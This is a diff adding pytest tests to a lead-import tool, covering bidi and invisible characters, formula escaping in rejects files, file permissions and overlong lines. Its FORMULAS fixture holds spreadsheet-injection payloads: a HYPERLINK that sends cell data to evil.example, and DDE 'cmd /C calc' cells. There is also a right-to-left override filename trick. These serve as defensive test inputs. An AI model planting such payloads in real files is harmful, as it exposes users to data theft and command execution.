@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import json
+import os
+import stat
 import time
 import tracemalloc
 from collections.abc import Mapping, Sequence
@@ -18,6 +20,7 @@ from conftest import FrozenClock, Shop
 
 from codspot_tui.domain.errors import BadInput
 from codspot_tui.domain.models import Order
+from codspot_tui.domain.text import from_csv_cell
 from codspot_tui.services import leads
 from codspot_tui.services.bundle import Services
 from codspot_tui.services.leads import ImportReport, LeadImporter
@@ -73,8 +76,17 @@ def write_csv(
 
 
 def read_rejects(path: Path, delimiter: str = ",") -> list[dict[str, str]]:
+    """The rows of a rejects file, with the `'` that keeps a spreadsheet from reading a cell as
+    a formula taken off again, as the import does."""
     with path.open(encoding="utf-8-sig", newline="") as file:
-        return list(csv.DictReader(file, delimiter=delimiter))
+        rows = csv.DictReader(file, delimiter=delimiter)
+        return [
+            {
+                key: from_csv_cell(value) if isinstance(value, str) else value
+                for key, value in row.items()
+            }
+            for row in rows
+        ]
 
 
 async def stored(services: Services) -> list[Order]:
@@ -769,3 +781,215 @@ async def test_a_hundred_thousand_rows_import_in_one_go_in_little_memory(
     print(f"\n100k rows: {seconds:.1f} s, peak {peak / 1e6:.1f} MB, holding {holding / 1e6:.1f} MB")
     assert peak < 40e6
     assert peak < holding / 3
+
+
+# --- text that would act on a terminal, cells a spreadsheet would run, private rejects ---------
+
+
+async def test_bidi_controls_and_invisible_characters_are_refused_by_line(
+    services: Services, importer: LeadImporter, tmp_path: Path
+) -> None:
+    path = write_csv(
+        tmp_path / "leads.csv",
+        [
+            lead("T1", customer="Ali \u202egnp.exe"),  # shown as "Ali exe.png"
+            lead("T2", "0612345679", note="ok \u2066hidden\u2069"),
+            lead("T3", "0612345670", address="Rue \x9b2J"),  # a C1 CSI: ESC [ in one byte
+            lead("T4", "0612345671", city="Casa\u200bblanca"),
+            lead("T5\u200d", "0612345672"),  # a joiner makes two refs look alike
+            lead("T6", "0612345673", customer="\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
+        ],
+    )
+    report = await importer.import_file(path)
+
+    bidi = "a bidi control ({}) that reorders the text shown around it"
+    assert report.problems == (
+        f"line 2: customer contains {bidi.format('U+202E')}",
+        f"line 3: note contains {bidi.format('U+2066')}",
+        "line 4: address contains control characters",
+        "line 5: city contains an invisible character (U+200B)",
+        "line 6: ref contains an invisible character (U+200D)",
+    )
+    # A zero-width non-joiner shapes Persian and Arabic words: free text keeps it, verbatim.
+    (kept,) = await stored(services)
+    assert (kept.ref, kept.customer) == ("T6", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645")
+
+
+async def test_json_leads_with_a_bidi_override_are_refused_too(
+    services: Services, importer: LeadImporter, tmp_path: Path
+) -> None:
+    path = tmp_path / "leads.jsonl"
+    rows = [lead("J1"), lead("J2", "0612345679", note="\u202dreversed\u202c")]
+    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
+    report = await importer.import_file(path)
+    assert [o.ref for o in await stored(services)] == ["J1"]
+    assert report.problems == (
+        "line 2: note contains a bidi control (U+202D) that reorders the text shown around it",
+    )
+
+
+FORMULAS = {
+    "customer": '=HYPERLINK("http://evil.example/?"&A2,"click")',
+    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "address": "+cmd|' /C notepad'!'A1'",
+    "note": "\tleading tab",
+}
+
+
+async def test_rejects_cells_never_start_a_formula_and_import_again_once_fixed(
+    services: Services, importer: LeadImporter, tmp_path: Path
+) -> None:
+    bad = lead("F1", "+212612345601", sku="NOPE", qty="-2", **FORMULAS)  # two reasons
+    path = write_csv(tmp_path / "leads.csv", [bad])
+    report = await importer.import_file(path)
+    assert report.rejected == 1
+
+    # As a spreadsheet reads the file: no cell starts with = + - @ or a tab.
+    assert report.rejects_file is not None
+    raw = report.rejects_file.read_text(encoding="utf-8-sig")
+    with report.rejects_file.open(encoding="utf-8-sig", newline="") as file:
+        header, cells = list(csv.reader(file))
+    assert header == [*COLUMNS, "error"]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], raw
+    row = dict(zip(header, cells, strict=True))
+    assert (row["phone"], row["qty"]) == ("'+212612345601", "'-2")
+    assert {name: row[name] for name in FORMULAS} == {k: "'" + v for k, v in FORMULAS.items()}
+
+    # The user fixes the SKU and the quantity in a spreadsheet and saves: the cells they did
+    # not touch keep their "'", and the import reads them as the values first sent.
+    row |= {"sku": "ARGAN", "qty": "2"}
+    with report.rejects_file.open("w", encoding="utf-8-sig", newline="") as file:
+        csv.writer(file).writerows([header, [row[name] for name in header]])
+    again = await importer.import_file(report.rejects_file, source="leads")
+    assert (again.imported, again.rejected) == (1, 0)
+    (order,) = await stored(services)
+    assert (order.ref, order.phone, order.items[0].qty) == ("F1", "+212612345601", 2)
+    assert {name: getattr(order, name) for name in FORMULAS} == {
+        **FORMULAS,
+        "note": FORMULAS["note"].strip(),  # white space around a value is trimmed, as always
+    }
+
+
+def test_a_value_that_starts_with_a_quote_survives_the_round_trip() -> None:
+    from codspot_tui.domain.text import to_csv_cell
+
+    for value in ("=1+1", "+212600", "-5", "@x", "\tx", "\rx", "'=x", "''+1", "'ok", "", "a=b"):
+        cell = to_csv_cell(value)
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
+        assert from_csv_cell(cell) == value
+    assert to_csv_cell("Casablanca") == "Casablanca"
+
+
+async def test_the_rejects_file_is_private_whatever_the_umask(
+    importer: LeadImporter, tmp_path: Path
+) -> None:
+    path = write_csv(tmp_path / "leads.csv", [lead("P1", sku="NOPE")])
+    rejects = tmp_path / "leads.rejects.csv"
+    rejects.write_text("an earlier run's\n")
+    rejects.chmod(0o644)
+    (tmp_path / "leads.rejects.csv.part").write_text("left by a crash\n")
+    (tmp_path / "leads.rejects.csv.part").chmod(0o666)
+    before = os.umask(0)
+    try:
+        await importer.import_file(path)
+        assert stat.S_IMODE(rejects.stat().st_mode) == 0o600
+        os.umask(0o077)  # a team that shares a group asks for 0o660: the umask can't narrow it
+        await importer.import_file(path, rejects_mode=0o660)
+        assert stat.S_IMODE(rejects.stat().st_mode) == 0o660
+    finally:
+        os.umask(before)
+    assert read_rejects(rejects)[0]["ref"] == "P1"
+
+
+# --- lines too long to be leads ---------------------------------------------------------------
+
+
+def _long_line(path: Path, first: str, length: int, rest: str = "", *, end: str = "") -> Path:
+    """`first`, then `length` x's and `end` on the same line; `rest` on the lines after."""
+    with path.open("w", encoding="utf-8") as file:
+        file.write(first)
+        for _ in range(length // 65536):
+            file.write("x" * 65536)
+        file.write(end + "\n" + rest)
+    return path
+
+
+@pytest.mark.parametrize("where", ["header", "row"])
+async def test_a_csv_line_longer_than_a_megabyte_is_a_bad_file(
+    services: Services, importer: LeadImporter, tmp_path: Path, where: str
+) -> None:
+    if where == "header":
+        path = _long_line(tmp_path / "leads.csv", "ref,phone,sku,", 3 << 20)
+        message = "line 1 is longer than 1,048,576 characters: expected a header line"
+    else:
+        path = _long_line(tmp_path / "leads.csv", "ref,phone,sku\nA1,0612345678,", 3 << 20)
+        message = "line 2 is longer than 1,048,576 characters"
+    with pytest.raises(BadInput) as refused:
+        await importer.import_file(path)
+    assert str(refused.value).startswith(f"{path}: {message}")
+    assert await order_count(services) == 0
+
+
+async def test_a_header_field_beyond_the_csv_field_limit_is_a_bad_file(
+    importer: LeadImporter, tmp_path: Path
+) -> None:
+    path = tmp_path / "leads.csv"
+    path.write_text(f'ref,phone,sku,"{"x" * (csv.field_size_limit() + 10)}"\n')
+    with pytest.raises(BadInput, match=r": line 1: field larger than field limit"):
+        await importer.import_file(path)
+
+
+async def test_a_json_line_longer_than_a_megabyte_is_rejected_alone_in_little_memory(
+    services: Services, importer: LeadImporter, tmp_path: Path
+) -> None:
+    good = json.dumps(lead("J1")) + "\n"
+    path = _long_line(
+        tmp_path / "leads.jsonl",
+        good + '{"ref": "J2", "phone": "0612345679", "sku": "ARGAN", "note": "',
+        8 << 20,
+        json.dumps(lead("J3", "0612345670")) + "\n",
+        end='"}',  # valid JSON: read whole, it took ten times its size
+    )
+    tracemalloc.start()
+    try:
+        report = await importer.import_file(path)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 12e6, f"peak {peak / 1e6:.1f} MB for a line of 8 MB"  # 4.4 MB measured
+    assert [o.ref for o in await stored(services)] == ["J1", "J3"]
+    assert report.problems == ("line 2: the line is longer than 1,048,576 characters",)
+    assert report.rejects_file is not None
+    (rejected,) = (json.loads(line) for line in report.rejects_file.read_text().splitlines())
+    assert rejected["raw"].startswith('{"ref": "J2"') and len(rejected["raw"]) < 200
+
+
+async def test_a_first_json_line_longer_than_a_megabyte_is_a_bad_file(
+    importer: LeadImporter, tmp_path: Path
+) -> None:
+    path = _long_line(tmp_path / "leads.jsonl", '{"ref": "', 2 << 20)
+    with pytest.raises(BadInput, match=r"line 1 is longer than 1,048,576 characters: expected"):
+        await importer.import_file(path)
+
+
+def test_a_fifty_megabyte_header_is_the_one_line_bad_file_error_of_the_command_line(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from codspot_tui.cli import main
+
+    monkeypatch.setenv("CODSPOT_DB", str(tmp_path / "shop.db"))
+    (tmp_path / "config.toml").write_text('region = "MA"\n')
+    monkeypatch.setenv("CODSPOT_CONFIG", str(tmp_path / "config.toml"))
+    monkeypatch.setenv("CODSPOT_AGENT", "boss")
+    with pytest.raises(SystemExit) as done:
+        main(["init"])
+    assert done.value.code == 0
+    path = _long_line(tmp_path / "leads.csv", "ref,phone,sku,", 50 << 20)
+    capsys.readouterr()
+    with pytest.raises(SystemExit) as done:
+        main(["import", str(path)])
+    err = capsys.readouterr().err
+    assert done.value.code == 2
+    assert err == f"codspot: {path}: line 1 is longer than 1,048,576 characters:" + (
+        " expected a header line (ref, phone, sku, ...)\n"
+    )
